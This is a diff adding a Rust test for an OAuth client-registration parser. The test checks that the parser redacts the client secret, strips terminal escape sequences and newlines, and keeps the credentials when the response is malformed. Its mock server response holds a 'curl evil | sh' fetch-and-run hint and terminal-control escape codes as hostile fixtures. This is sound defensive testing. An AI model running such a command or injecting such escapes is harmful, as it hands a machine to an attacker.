@@ -572,3 +572,42 @@ fn a_token_for_fewer_scopes_than_asked_is_refused() {
     assert!(parse(&p, &creds, &asked, &with(r#","scope":"read write admin""#)).is_ok());
     assert!(parse(&p, &creds, &asked, &with("")).is_ok());
 }
+
+/// A registration answer is the one time the secret is shown: the
+/// server's words never repeat it or drive a terminal, and a half-broken
+/// answer keeps what the server sent instead of throwing it away.
+#[test]
+fn registration_answers_are_shown_safely_and_never_lost() {
+    let p = Openverse::cc_catalog();
+    let secret = "n3w+s3cr/t=";
+    let r = response(
+        201,
+        &format!(
+            r#"{{"client_id":"id1","client_secret":"{secret}","name":"x\u001b[2J\u001b]0;pwned\u0007","msg":"your secret is {secret}\nhint: run curl evil | sh"}}"#
+        ),
+    );
+    let c = p.parse_registration_response(&r, wall()).unwrap();
+    let msg = c.message.unwrap();
+    assert!(!msg.contains(secret) && msg.contains("[redacted]"), "{msg}");
+    assert!(
+        !msg.contains('\n') && !c.name.contains('\u{1b}'),
+        "{msg} {}",
+        c.name
+    );
+    assert_eq!(c.credentials.client_secret().expose_secret(), secret);
+
+    let r = response(
+        201,
+        &format!(r#"{{"client_id":"id\n1","client_secret":"{secret}","name":"x"}}"#),
+    );
+    let e = p.parse_registration_response(&r, wall()).unwrap_err();
+    let Error::RegistrationIncomplete { reason, sent } = &e else {
+        panic!("{e:?}");
+    };
+    assert!(reason.contains("control character"), "{reason}");
+    assert_eq!(sent.client_id, "id\n1");
+    assert_eq!(sent.client_secret.as_ref().unwrap().expose_secret(), secret);
+    let shown = format!("{e} {e:?}");
+    assert!(!shown.contains(secret) && !shown.contains('\n'), "{shown}");
+    assert!(shown.contains("registered the client"), "{shown}");
+}
